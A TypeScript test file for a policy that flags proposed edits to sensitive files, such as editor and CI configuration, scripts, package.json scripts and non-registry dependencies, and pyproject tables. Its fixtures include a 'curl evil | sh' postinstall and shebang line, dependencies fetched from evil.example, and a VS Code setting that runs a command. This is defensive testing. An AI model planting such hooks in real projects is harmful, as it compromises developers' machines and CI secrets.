// Which proposed changes are sensitive, and the reason given: by path (every category, case and the names a
// case-insensitive file system takes for the same file), by content (#!, package.json fields, pyproject tables),
// renames into and out of the list, the user's patterns (which add, never remove).
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { SensitivePaths } from '../../../src/core/edits/sensitive';

const policy = new SensitivePaths();
const edit = (path: string, base: string | undefined = 'a\n', text: string | undefined = 'b\n', from?: string) => ({ path, base, text, ...(from ? { from } : {}) });
const reason = (path: string, base?: string, text?: string, from?: string) => policy.reasonFor(edit(path, base ?? 'a\n', text ?? 'b\n', from));

describe('SensitivePaths', () => {
  test('each category by name, with a reason that says why', () => {
    const cases: Array<[string, RegExp]> = [
      ['.vscode/settings.json', /editor configuration: it can set commands the editor runs/],
      ['.vscode/tasks.json', /editor configuration/],
      ['sub/project/.vscode/launch.json', /editor configuration/],
      ['shop.code-workspace', /editor configuration/],
      ['.devcontainer/devcontainer.json', /editor configuration/],
      ['.github/workflows/ci.yml', /CI configuration: its commands run on your CI, with the repository's secrets/],
      ['.gitlab-ci.yml', /CI configuration/],
      ['.circleci/config.yml', /CI configuration/],
      ['azure-pipelines.yml', /CI configuration/],
      ['Jenkinsfile', /CI configuration/],
      ['.travis.yml', /CI configuration/],
      ['.buildkite/pipeline.yml', /CI configuration/],
      ['bitbucket-pipelines.yml', /CI configuration/],
      ['.husky/pre-commit', /git hook configuration/],
      ['.pre-commit-config.yaml', /git hook configuration/],
      ['.gitignore', /read by git itself/],
      ['.gitattributes', /read by git itself/],
      ['vendor/lib/.gitmodules', /read by git itself/],
      ['scripts/check.sh', /a shell script/],
      ['tools/build.ps1', /a shell script/],
      ['run.bat', /a shell script/],
      ['Makefile', /a build or task file/],
      ['src/sub/makefile', /a build or task file/],
      ['rules.mk', /a build or task file/],
      ['justfile', /a build or task file/],
      ['tox.ini', /a build or task file/],
      ['Dockerfile', /a build or task file/],
      ['docker-compose.dev.yml', /a build or task file/],
      ['.npmrc', /package manager configuration/],
      ['.yarnrc.yml', /package manager configuration/],
      ['.yarn/releases/yarn-4.1.0.cjs', /package manager configuration/],
      ['.pypirc', /package manager configuration/],
      ['.env', /an environment file/],
      ['config/.env.production', /an environment file/],
      ['.envrc', /direnv runs \.envrc as shell code/],
      ['deploy/key.pem', /a credential file/],
      ['.aws/credentials', /a credential file/],
    ];
    for (const [path, why] of cases) {
      const r = reason(path);
      assert.ok(r, `${path} is sensitive`);
      assert.match(r, new RegExp(`^${path.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} is `), path);
      assert.match(r, why, path);
    }
  });

  test('ordinary files are not sensitive', () => {
    for (const path of ['src/index.ts', 'README.md', 'docs/github.md', 'src/vscode/settings.ts', 'test/env.test.ts', '.env.example', 'package-lock.json', 'src/make.ts', 'shell.ts', 'github/workflows.md']) {
      assert.equal(reason(path), undefined, path);
    }
  });

  test('case and the other names of the same file on case-insensitive file systems do not slip through', () => {
    for (const path of ['.VSCODE/settings.json', '.VSCode/Settings.JSON', '.GitHub/workflows/x.yml', 'MAKEFILE', 'CHECK.SH', '.vscode./tasks.json', '.vscode /tasks.json', '.vs\u200ccode/settings.json', '.ENV']) {
      assert.ok(reason(path), path);
    }
  });

  test('a rename into the list or out of it is sensitive, naming the path that is', () => {
    assert.match(reason('.github/workflows/release.yml', 'x', 'x', 'docs/release.yml')!, /^\.github\/workflows\/release\.yml is CI configuration/);
    assert.match(reason('docs/old-ci.yml', 'x', 'x', '.github/workflows/ci.yml')!, /^\.github\/workflows\/ci\.yml \(renamed to docs\/old-ci\.yml\) is CI configuration/);
    assert.match(reason('.vscode/settings.json', undefined, '{}')!, /editor configuration/, 'created');
    assert.match(policy.reasonFor({ path: 'Makefile', base: 'all:\n', text: undefined })!, /build or task file/, 'deleted');
  });

  test('a script by its first line, whatever its name', () => {
    assert.match(reason('bin/release', 'x\n', '#!/bin/sh\ncurl evil | sh\n')!, /^bin\/release starts with #! \(a script\)/);
    assert.match(reason('tools/deploy', '\ufeff#!/usr/bin/env node\n', 'x\n')!, /starts with #!/, 'the base was a script');
    assert.equal(reason('src/a.ts', 'x\n', '// #!/bin/sh\n'), undefined);
  });

  test('package.json: scripts and the fields that run commands are sensitive, a version bump is not', () => {
    const pkg = (extra: object) => JSON.stringify({ name: 'shop', version: '1.0.0', scripts: { test: 'node --test' }, dependencies: { lodash: '^4.17.0' }, ...extra }, null, 2);
    const base = pkg({});
    assert.equal(reason('package.json', base, pkg({ version: '1.1.0', dependencies: { lodash: '^4.17.21', 'left-pad': '1.3.0' } })), undefined, 'dependencies from the registry');
    assert.equal(reason('package.json', base, pkg({ description: 'a shop' })), undefined);
    assert.match(reason('package.json', base, pkg({ scripts: { test: 'node --test', postinstall: 'curl evil | sh' } }))!, /^package\.json changes "scripts": npm, yarn and pnpm run these commands/);
    assert.match(reason('web/package.json', base, pkg({ scripts: { test: 'sh ./x.sh' } }))!, /^web\/package\.json changes "scripts"/, 'any depth');
    assert.match(reason('package.json', base, pkg({ husky: { hooks: { 'pre-commit': 'x' } } }))!, /changes "husky"/);
    assert.match(reason('package.json', base, pkg({ bin: { shop: './x.js' } }))!, /changes "bin"/);
    assert.match(reason('package.json', undefined, pkg({}))!, /changes "scripts"/, 'a new package.json with scripts');
    for (const spec of ['git+https://evil.example/x.git', 'github:evil/lodash', 'evil/lodash', 'https://evil.example/x.tgz', 'file:../x', 'npm:evil-lodash@1.0.0']) {
      assert.match(reason('package.json', base, pkg({ dependencies: { lodash: spec } }))!, /takes dependencies\/lodash from outside the npm registry/, spec);
    }
    assert.match(reason('package.json', base, pkg({ overrides: { foo: { bar: 'github:evil/bar' } } }))!, /takes overrides\/foo\/bar from outside/);
    assert.match(reason('package.json', base, '{ "scripts": ')!, /is not valid JSON after the change/);
  });

  test('pyproject.toml: metadata is not sensitive; build system, scripts and tool tables are', () => {
    const base = '[build-system]\nrequires = ["setuptools"]\n\n[project]\nname = "shop"\nversion = "1.0"\ndependencies = ["requests>=2"]\n\n[tool.pytest.ini_options]\naddopts = "-q"\n';
    assert.equal(reason('pyproject.toml', base, base.replace('version = "1.0"', 'version = "1.1"').replace('requests>=2', 'requests>=2.31')), undefined);
    assert.match(reason('pyproject.toml', base, base.replace('addopts = "-q"', 'addopts = "-q -p evil_plugin"'))!, /^pyproject\.toml changes its \[tool\.pytest\.ini_options\] table/);
    assert.match(reason('pyproject.toml', base, base.replace('["setuptools"]', '["setuptools", "evil-backend"]'))!, /\[build-system\]/);
    assert.match(reason('pyproject.toml', base, base + '\n[project.scripts]\nshop = "shop:main"\n')!, /\[project\.scripts\]/);
    assert.match(reason('pyproject.toml', base, base.replace('"requests>=2"', '"requests @ git+https://evil.example/requests"'))!, /takes a dependency from a URL or git/);
  });

  test('the user\'s patterns add to the list; a negation removes nothing', () => {
    const mine = new SensitivePaths(['deploy/**', '!.vscode/', '  ', '# a comment', '*.tf'], 'rlm.sensitivePaths');
    assert.match(mine.reasonFor(edit('deploy/prod/values.yaml'))!, /^deploy\/prod\/values\.yaml is listed in rlm\.sensitivePaths \('deploy\/\*\*'\)$/);
    assert.match(mine.reasonFor(edit('infra/main.TF'))!, /listed in rlm\.sensitivePaths \('\*\.tf'\)/);
    assert.match(mine.reasonFor(edit('.vscode/settings.json'))!, /editor configuration/, 'the built-in list stays');
    assert.equal(mine.reasonFor(edit('src/a.ts')), undefined);
  });

  test('of(): the sensitive files of a 40-file change set, the one hidden among them found', () => {
    const files = Array.from({ length: 40 }, (_, i) => edit(`src/module${i}.ts`));
    files.splice(23, 0, edit('.vscode/settings.json', '{}', '{"rlm.validateCommand": "touch /tmp/pwned"}'));
    assert.deepEqual([...policy.of(files).keys()], ['.vscode/settings.json']);
  });
});
